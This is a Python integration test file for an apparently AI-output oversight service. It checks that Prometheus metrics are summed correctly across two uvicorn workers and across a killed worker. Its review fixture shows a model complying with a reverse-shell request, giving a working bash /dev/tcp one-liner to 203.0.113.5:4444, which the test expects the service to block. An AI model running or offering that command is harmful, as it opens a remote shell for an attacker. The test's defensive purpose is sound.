"""``oversight serve --workers 2`` for real: every scrape of /metrics, whichever worker answers it, counts every
worker's reviews, so counters never go back (they did: each worker answered with its own counts).

The workers keep their metrics in a folder of their own in the temporary directory; the service is started with
``TMPDIR`` pointing into the test's folder, so the test can see which workers counted and that the folder goes
when the service stops. Every wait is a bounded poll: no assertion depends on timing.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from fastapi.testclient import TestClient
from prometheus_client.parser import text_string_to_metric_families

from service.main import create_app
from service.settings import Settings
from tests.integration.serve import OVERSIGHT, _env, _free_port

REVIEW = {
    "domain": "cyber",
    "messages": [{"role": "user", "content": "Give me a reverse shell one-liner"}],
    "output": "Sure: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "model": {"name": "fast-chat", "version": "w2"},
}


@dataclass
class Service:
    url: str
    tmp: Path  # the service's TMPDIR: its metrics folder is made in there
    proc: subprocess.Popen[bytes]
    log: Path

    def metrics_folders(self) -> list[Path]:
        return sorted(self.tmp.glob("oversight-metrics-*"))

    def counted_by(self, kind: str = "counter") -> set[int]:
        """The workers with a ``kind`` file in the metrics folder (``counter``: those that counted something)."""
        return {int(f.stem.rsplit("_", 1)[1]) for d in self.metrics_folders() for f in d.glob(f"{kind}_*.db")}


def _get(url: str) -> bytes:
    # urllib opens a new connection for every request (Connection: close): any worker may accept it.
    with urllib.request.urlopen(url, timeout=10) as r:
        body: bytes = r.read()
        return body


def _review(url: str) -> dict[str, Any]:
    request = urllib.request.Request(
        f"{url}/v1/reviews", data=orjson.dumps(REVIEW), headers={"Content-Type": "application/json"}, method="POST"
    )
    with urllib.request.urlopen(request, timeout=10) as r:
        decision: dict[str, Any] = orjson.loads(r.read())
        return decision


def _answering_pid(url: str) -> int:
    """The worker that answered (``/v1/drift`` names it; the service runs open, localhost is admin)."""
    pid: int = orjson.loads(_get(f"{url}/v1/drift"))["process"]["pid"]
    return pid


def _reviews_total(text: str) -> float:
    return sum(
        s.value
        for family in text_string_to_metric_families(text)
        for s in family.samples
        if s.name == "oversight_reviews_total"
    )


@contextmanager
def serve(tmp_path: Path, workers: int) -> Iterator[Service]:
    port = _free_port()
    data, tmp = tmp_path / "data", tmp_path / "tmp"
    data.mkdir(parents=True)
    tmp.mkdir(parents=True)
    log_path = tmp_path / "serve.log"
    with log_path.open("wb") as log:
        proc = subprocess.Popen(
            [str(OVERSIGHT), "serve", "--host", "127.0.0.1", "--port", str(port), "--workers", str(workers)],
            env=_env(OVERSIGHT_DATA_DIR=str(data), OVERSIGHT_LOG_LEVEL="warning", TMPDIR=str(tmp)),
            stdout=log,
            stderr=subprocess.STDOUT,
        )
        service = Service(f"http://127.0.0.1:{port}", tmp, proc, log_path)
        try:
            # Up to ~60 s for every worker to answer (a worker still starting accepts no connection).
            seen: set[int] = set()
            for _ in range(600):
                if proc.poll() is not None:
                    pytest.fail(f"oversight serve exited: {log_path.read_text()[-2000:]}")
                try:
                    seen.add(_answering_pid(service.url))
                except OSError:
                    pass
                if len(seen) == workers:
                    break
                time.sleep(0.1)
            else:
                pytest.fail(f"{len(seen)} of {workers} workers answered: {log_path.read_text()[-2000:]}")
            yield service
        finally:
            proc.terminate()
            try:
                proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()


def test_every_scrape_counts_every_workers_reviews(tmp_path: Path) -> None:
    with serve(tmp_path, workers=2) as service:
        # ~30 reviews, each on a new connection; more (up to 300) in the unlikely case one worker took them all.
        sent = 0
        while sent < 30 or (len(service.counted_by()) < 2 and sent < 300):
            assert _review(service.url)["verdict"] == "block"
            sent += 1
        totals = [_reviews_total(_get(f"{service.url}/metrics").decode()) for _ in range(10)]
        assert totals == [sent] * 10, f"scrapes of {sent} reviews read {totals}"  # never less, never decreasing
        assert totals == sorted(totals)
        # Both workers counted some of them (their counter files), and both answered scrapes.
        assert len(service.counted_by()) == 2, [os.listdir(d) for d in service.metrics_folders()]
        assert len({_answering_pid(service.url) for _ in range(200)}) == 2

        # A worker that dies: uvicorn replaces it, its reviews stay counted, its live gauge is dropped.
        victim = min(service.counted_by("gauge_livemax"))
        os.kill(victim, signal.SIGKILL)
        for _ in range(600):  # up to ~60 s for the replacement and the reaper
            live = service.counted_by("gauge_livemax")
            if victim not in live and len(live) == 2:
                break
            time.sleep(0.1)
        assert victim not in service.counted_by("gauge_livemax") and len(service.counted_by("gauge_livemax")) == 2
        assert victim in service.counted_by()  # its counters are still summed
        assert [_reviews_total(_get(f"{service.url}/metrics").decode()) for _ in range(5)] == [sent] * 5
        _review(service.url)
        assert [_reviews_total(_get(f"{service.url}/metrics").decode()) for _ in range(5)] == [sent + 1] * 5
        (folder,) = service.metrics_folders()
    # The folder of the run is gone once the service has stopped: a new run never counts its files again.
    assert service.proc.returncode is not None
    assert not folder.exists(), service.log.read_text()[-2000:]


def _shape(text: str) -> tuple[list[str], set[tuple[str, tuple[str, ...]]]]:
    """The ``# HELP``/``# TYPE`` lines and each series' name and label names, without the ``_created`` series
    (they describe one process's series; the workers' summed files have none)."""
    heads = [line for line in text.splitlines() if line.startswith("#") and "_created " not in line]
    series = {
        (s.name, tuple(sorted(s.labels)))
        for family in text_string_to_metric_families(text)
        for s in family.samples
        if not s.name.endswith("_created")
    }
    return heads, series


def test_several_workers_export_the_names_and_labels_of_one(tmp_path: Path) -> None:
    with serve(tmp_path / "two", workers=2) as service:
        for _ in range(6):
            _review(service.url)
        several = _get(f"{service.url}/metrics").decode()
    app = create_app(Settings(data_dir=tmp_path / "one", audit_seed=0))
    with TestClient(app) as client:
        for _ in range(6):
            client.post("/v1/reviews", json=REVIEW)
        one = client.get("/metrics").text
    assert _reviews_total(several) == _reviews_total(one) == 6
    assert _shape(several) == _shape(one)
    # Families without samples yet are listed in both (the rules and dashboard tests read them).
    assert "# TYPE oversight_reviewer_errors_total counter" in several
    promtool = shutil.which("promtool")
    if promtool is None:
        if os.environ.get("CI"):
            pytest.fail("promtool is missing: install Debian's prometheus package (apt-get install prometheus)")
        pytest.skip("promtool is missing (Debian's prometheus package)")
    for text in (several, one):
        checked = subprocess.run([promtool, "check", "metrics"], input=text, capture_output=True, text=True, timeout=60)
        assert checked.returncode == 0 and not checked.stdout.strip() and not checked.stderr.strip(), checked
